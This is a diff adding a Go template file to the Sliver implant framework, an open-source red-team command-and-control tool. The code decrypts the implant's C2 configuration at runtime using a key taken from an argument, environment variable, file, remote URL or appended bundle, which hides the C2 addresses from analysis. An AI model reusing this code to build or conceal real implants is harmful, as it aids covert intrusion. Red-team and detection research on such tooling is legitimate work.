@@ -0,0 +1,286 @@
+package runtimeconfig
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+
+	// {{if and .Config.Debug .Config.ConfigKeySource}}
+	"log"
+	// {{end}}
+
+	// {{if .Config.ConfigKeySource}}
+	"encoding/base64"
+	"io"
+	"net/http"
+	"os"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/bishopfox/sliver/implant/sliver/cryptography"
+	"golang.org/x/crypto/argon2"
+	"google.golang.org/protobuf/proto"
+	// {{end}}
+
+	// {{if eq .Config.ConfigKeySource "bundle"}}
+	"encoding/binary"
+
+	consts "github.com/bishopfox/sliver/implant/sliver/constants"
+	// {{end}}
+
+	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+// The key of the encrypted config is derived from the config key with argon2id and the
+// salt in front of the encrypted config, these must match server/cryptography
+const (
+	saltSize   = 16
+	keyTime    = 3
+	keyMemory  = 64 * 1024 // KiB
+	keyThreads = 4
+)
+
+var (
+	// Enabled - Set if the implant's c2 config is encrypted and has to be decrypted
+	// using a key we get at runtime before connecting
+	Enabled = false
+
+	// ErrNoKey - The key source didn't have a key
+	ErrNoKey = errors.New("no config key")
+
+	// ErrNoBundle - No provisioning bundle was appended to the executable
+	ErrNoBundle = errors.New("no provisioning bundle")
+
+	// ErrInvalidConfig - The encrypted config is too short to have a salt
+	ErrInvalidConfig = errors.New("invalid config")
+
+	config = &pb.RuntimeConfig{HTTP: &pb.HTTPC2Profile{}}
+
+	// {{if .Config.ConfigKeySource}}
+	encryptedConfig = "{{.EncryptedConfig}}"
+	keySource       = "{{.Config.ConfigKeySource}}"
+	keyLocation     = `{{.Config.ConfigKeyLocation}}`
+	// {{end}}
+
+	// {{if eq .Config.ConfigKeySource "bundle"}}
+	bundleKey  = `{{.Config.ConfigKey}}`
+	executable = os.Executable
+	// {{end}}
+)
+
+func init() {
+	// {{if .Config.ConfigKeySource}}
+	Enabled = true
+	// {{end}}
+}
+
+// Load - Get the key and decrypt the config, the implant can't connect anywhere
+// if this fails since the c2 urls are only in the encrypted config
+func Load() error {
+	if !Enabled {
+		return nil
+	}
+	// {{if .Config.ConfigKeySource}}
+	key, err := getKey()
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[config] failed to get key from %s: %s", keySource, err)
+		// {{end}}
+		return err
+	}
+	var data []byte
+	if keySource == pb.ConfigKeyFromBundle {
+		// {{if eq .Config.ConfigKeySource "bundle"}}
+		data, err = readBundle()
+		// {{end}}
+	} else {
+		data, err = base64.RawStdEncoding.DecodeString(encryptedConfig)
+	}
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[config] failed to read config: %s", err)
+		// {{end}}
+		return err
+	}
+	if len(data) < saltSize {
+		return ErrInvalidConfig
+	}
+	var derivedKey [32]byte
+	copy(derivedKey[:], argon2.IDKey(key, data[:saltSize], keyTime, keyMemory, keyThreads, 32))
+	plaintext, err := cryptography.Decrypt(derivedKey, data[saltSize:])
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[config] failed to decrypt config: %s", err)
+		// {{end}}
+		return err
+	}
+	runtimeConfig := &pb.RuntimeConfig{}
+	err = proto.Unmarshal(plaintext, runtimeConfig)
+	if err != nil {
+		return err
+	}
+	if runtimeConfig.HTTP == nil {
+		runtimeConfig.HTTP = &pb.HTTPC2Profile{}
+	}
+	config = runtimeConfig
+	// {{if eq .Config.ConfigKeySource "bundle"}}
+	if config.Keys != nil {
+		consts.SliverName = config.Name
+		cryptography.Provision(config.Keys)
+	}
+	// {{end}}
+	// {{if .Config.Debug}}
+	log.Printf("[config] decrypted config with %d c2(s)", len(config.C2))
+	// {{end}}
+	// {{end}}
+	return nil
+}
+
+// C2 - The c2 urls of the decrypted config
+func C2() []string {
+	return config.C2
+}
+
+// HTTP - The http c2 profile of the decrypted config
+func HTTP() *pb.HTTPC2Profile {
+	return config.HTTP
+}
+
+// Keys - The keys of a provisioned implant, nil unless the config is a provisioning bundle
+func Keys() *pb.ImplantKeys {
+	return config.Keys
+}
+
+// {{if .Config.ConfigKeySource}}
+
+func getKey() ([]byte, error) {
+	var key string
+	switch keySource {
+	case pb.ConfigKeyFromArg:
+		if len(os.Args) < 2 {
+			return nil, ErrNoKey
+		}
+		key = os.Args[len(os.Args)-1]
+	case pb.ConfigKeyFromEnv:
+		key = os.Getenv(keyLocation)
+	case pb.ConfigKeyFromFile:
+		data, err := os.ReadFile(keyLocation)
+		if err != nil {
+			return nil, err
+		}
+		key = string(data)
+	case pb.ConfigKeyFromURL:
+		data, err := fetchKey()
+		if err != nil {
+			return nil, err
+		}
+		key = string(data)
+	// {{if eq .Config.ConfigKeySource "bundle"}}
+	case pb.ConfigKeyFromBundle:
+		key = bundleKey
+		// {{end}}
+	}
+	key = strings.TrimSpace(key)
+	if key == "" {
+		return nil, ErrNoKey
+	}
+	return []byte(key), nil
+}
+
+// fetchKey - The keying url may only serve the key once the operator is ready, so retry
+// like a connection attempt until we run out of connection errors
+func fetchKey() ([]byte, error) {
+	maxErrors, err := strconv.Atoi(`{{.Config.MaxConnectionErrors}}`)
+	if err != nil || maxErrors < 1 {
+		maxErrors = 1
+	}
+	reconnect, err := strconv.ParseInt(`{{.Config.ReconnectInterval}}`, 10, 64)
+	if err != nil {
+		reconnect = int64(60 * time.Second)
+	}
+	client := &http.Client{Timeout: 30 * time.Second}
+	for attempt := 1; ; attempt++ {
+		data, err := getURL(client)
+		if err == nil && 0 < len(strings.TrimSpace(string(data))) {
+			return data, nil
+		}
+		// {{if .Config.Debug}}
+		log.Printf("[config] key url attempt %d failed: %v", attempt, err)
+		// {{end}}
+		if maxErrors <= attempt {
+			return nil, ErrNoKey
+		}
+		time.Sleep(time.Duration(reconnect))
+	}
+}
+
+func getURL(client *http.Client) ([]byte, error) {
+	resp, err := client.Get(keyLocation)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		return nil, ErrNoKey
+	}
+	return io.ReadAll(io.LimitReader(resp.Body, 4096))
+}
+
+// {{end}}
+
+// {{if eq .Config.ConfigKeySource "bundle"}}
+
+// readBundle - The provisioning bundle is appended to our executable, followed by its
+// length so we can find where it starts
+func readBundle() ([]byte, error) {
+	path, err := executable()
+	if err != nil {
+		return nil, err
+	}
+	file, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer file.Close()
+	info, err := file.Stat()
+	if err != nil {
+		return nil, err
+	}
+	length := make([]byte, 4)
+	if info.Size() < 4 {
+		return nil, ErrNoBundle
+	}
+	_, err = file.ReadAt(length, info.Size()-4)
+	if err != nil {
+		return nil, err
+	}
+	size := int64(binary.BigEndian.Uint32(length))
+	if size == 0 || info.Size()-4 < size {
+		return nil, ErrNoBundle
+	}
+	data := make([]byte, size)
+	_, err = file.ReadAt(data, info.Size()-4-size)
+	if err != nil {
+		return nil, err
+	}
+	return data, nil
+}
+
+// {{end}}